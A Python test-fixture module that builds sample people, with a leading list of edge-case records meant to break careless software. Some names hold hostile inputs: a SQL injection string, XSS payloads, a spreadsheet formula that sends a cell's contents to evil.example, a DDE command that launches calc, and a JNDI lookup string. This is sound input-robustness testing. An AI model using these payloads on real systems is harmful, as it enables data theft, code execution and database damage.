"""The people of the sample: ordinary ones, and at the front of the list those on whom careless software breaks."""

from __future__ import annotations

import random
import string
from dataclasses import dataclass

_FIRST = ("Anna", "Bruno", "Chloé", "Dmitri", "Elif", "Femi", "Giulia", "Hugo", "Inès", "Jonas", "Kavya", "Liam", "Mei")
_LAST = (
    "Abadi",
    "Bianchi",
    "Costa",
    "Dubois",
    "Eriksen",
    "Fischer",
    "Garcia",
    "Haddad",
    "Ivanova",
    "Jansen",
    "Kowalski",
)
_LOWER = str.maketrans(string.ascii_uppercase, string.ascii_lowercase)


@dataclass(frozen=True, slots=True)
class Person:
    """Who someone is; what is stored about them is in `records`."""

    index: int
    trait: str
    """Why this person is in the sample; `ordinary` for most."""
    email: str
    """As the person types it."""
    first_name: str
    last_name: str

    @property
    def email_lower(self) -> str:
        """The address with ASCII capitals made small; other letters stay (the Kelvin sign is not a `k`)."""
        return self.email.translate(_LOWER)

    @property
    def name(self) -> str:
        return f"{self.first_name} {self.last_name}"


_SPECIAL: tuple[tuple[str, str, str, str], ...] = (
    # trait, e-mail, first name, last name
    ("everything", "ada.lovelace@example.com", "Ada", "Lovelace"),
    ("quotes", "o'brien@example.com", 'Sinéad "Shay"', "O'Brien'; DROP TABLE accounts;--"),
    ("html", "markup@example.com", "<script>alert(1)</script>", "<img src=x onerror=alert(2)>&amp;"),
    (
        "formula",
        "formula@example.com",
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    ("formula_tab", "plus.minus@example.com", "+1-2", "\t=1+1\r\n-2+3"),
    ("right_to_left", "layla@example.com", "ليلى", "\u202eحدّاد\u202c"),
    ("emoji", "family@example.com", "👩‍👩‍👧‍👦", "🍪🏴‍☠️"),
    ("combining", "zalgo@example.com", "Jose\u0301", "Z\u0351\u036b\u0343a\u036c\u0349lgo"),
    ("composed", "jose@example.com", "José", "Zalgo"),
    ("invisible", "invisible@example.com", "Zero\u200bWidth", "Null\u0000Byte\u2028Line"),
    ("plus_address", "ada.lovelace+news@example.com", "Ada", "Lovelace"),
    ("same_name", "countess@example.com", "Ada", "Lovelace"),
    ("homoglyph", "аda.lovelace@example.com", "Аda", "Lovelace"),
    ("longer_domain", "ada.lovelace@example.com.example.org", "Ada", "Lovelace"),
    ("shorter", "lovelace@example.com", "A.", "Lovelace"),
    ("capitals", "Grace.HOPPER@Example.COM", "Grace", "HOPPER"),
    ("kelvin", "\u212aelvin@example.com", "\u212aelvin", "Thomson"),
    ("kelvin_ascii", "Kelvin@example.com", "Kelvin", "Thomson"),
    ("dotless", "ı.dotless@example.com", "Işıl", "İnce"),
    ("wildcards", "a_%*?b{}#$@example.com", "%s {0} ${jndi:x}", "A_B%"),
    ("forms_only", "visitor@example.net", "Only", "Visitor"),
    ("listed_only", "listed@example.net", "Only", "Listed"),
    ("no_invoices", "trial@example.net", "Tried", "Briefly"),
    ("many_subscriptions", "collector@example.net", "Sub", "Scriber"),
    ("two_accounts", "Twice@example.net", "Two", "Accounts"),
    ("invoices_only", "gone@example.net", "Long", "Gone"),
    ("lists_self", "selfie@example.net", "Lists", "Themself"),
    ("many_tickets", "complains@example.net", "Asks", "Often"),
    ("huge_ticket", "verbose@example.net", "Writes", "Novels"),
    ("odd_values", "odd@example.net", "", "-"),
    ("odd_files", "files@example.net", "File", "Hoarder"),
    ("locked_file", "locked@example.net", "Under", "Lock"),
    ("last_used_a_year_ago", "onedge@example.net", "On", "TheEdge"),
    ("last_used_almost_a_year_ago", "notyet@example.net", "Not", "Yet"),
)

TRAITS = tuple(special[0] for special in _SPECIAL)


def person(index: int, rng: random.Random) -> Person:
    """The person at this place of the list; the first ones have traits."""
    if index < len(_SPECIAL):
        trait, email, first, last = _SPECIAL[index]
        return Person(index, trait, email, first, last)
    first, last = rng.choice(_FIRST), rng.choice(_LAST)
    return Person(index, "ordinary", f"{first[0].lower()}.{last.lower()}.{index}@example.com", first, last)
